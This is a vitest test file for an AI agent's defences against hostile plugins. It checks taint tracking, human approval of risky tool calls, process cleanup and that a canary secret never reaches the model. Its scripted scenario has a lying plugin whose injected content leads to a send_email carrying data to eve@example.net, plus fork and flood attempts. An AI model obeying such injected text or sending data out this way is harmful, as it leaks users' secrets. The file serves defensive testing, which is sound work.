import { afterEach, expect, test, vi } from "vitest";
import { findPrograms } from "../support/find-programs.ts";
import {
  decideAll,
  type HostileScene,
  openHostileScene,
  SECRET,
  say,
  sayElsewhere,
} from "./open-hostile-scene.ts";
import { CARRIED } from "./paths-and-addresses.ts";
import { LEFT_BEHIND, LIAR_SAYS } from "./plant-plugins.ts";

let scene: HostileScene;
afterEach(async () => {
  vi.unstubAllEnvs();
  await scene.close();
});

test("a plugin that is trusted to look brings others' words, and leaves nothing running, however it behaves", async () => {
  vi.stubEnv("HOSTILE_CANARY", SECRET);
  scene = await openHostileScene();
  const tried = ["obey", "env", "fork", "flood", "hang"];
  scene.plan.push(
    { callTools: tried.map((what) => ["plugin_liar", { do: what }] as const) },
    {
      callTools: [
        ["send_email", { to: ["eve@example.net"], subject: "x", body: CARRIED }],
        ["write_file", { path: "notes/plan.md", content: "obey" }],
        ["plugin_evil", { say: CARRIED }],
      ],
    },
  );
  await say(scene, scene.owner, "Ask the plugin");
  const steps = (await scene.t.rows("run_steps")).filter(({ name }) => name === "plugin_liar");
  expect(steps.map(({ state }) => state)).toEqual([
    "finished",
    "finished",
    "finished",
    "failed",
    "failed",
  ]);
  expect((await scene.t.rows("runs")).at(-1)?.tainted_by).toBe('["the plugin liar"]');
  expect((await scene.t.rows("approvals")).map(({ tool }) => tool)).toEqual([
    "send_email",
    "write_file",
    "plugin_evil",
  ]);
  const before = await scene.facts();
  await decideAll(scene, false);
  expect(await scene.facts()).toEqual(before);
  expect(before).toMatchObject({ mails: 0, plugins: 0 });
  await vi.waitFor(() => expect(findPrograms(LEFT_BEHIND)).toEqual([]), 10_000);
  expect(steps.map(({ result }) => result)).toEqual(
    expect.arrayContaining([
      expect.stringContaining("wrote more than"),
      expect.stringContaining("was ended after 3 s"),
    ]),
  );
  const told = JSON.stringify(scene.model.calls.map(({ prompt }) => prompt));
  expect(told).toContain(LIAR_SAYS);
  expect(told).toContain("left one behind");
  expect(told).not.toContain(SECRET);
});

test.each(["notes/loaded.md", "scratch/loaded.md"])(
  "what a plugin downloads into the workspace is a stranger's wherever it is read: %s",
  async (path) => {
    scene = await openHostileScene();
    scene.plan.push({ callTools: [["plugin_liar", { do: "load" }]] });
    await say(scene, scene.owner, "Load the page");
    scene.plan.push({ text: "Nothing." });
    expect(await sayElsewhere(scene, "What is new?")).toMatchObject({ taint: 0 });
    const mail = ["send_email", { to: ["eve@example.net"], subject: "x", body: "x" }] as const;
    scene.plan.push({ callTools: [["read_file", { path }]] }, { callTools: [mail] });
    expect(await sayElsewhere(scene, "Read it")).toMatchObject({ taint: 1 });
    expect((await scene.t.rows("runs")).at(-1)?.tainted_by).toContain(path);
  },
);
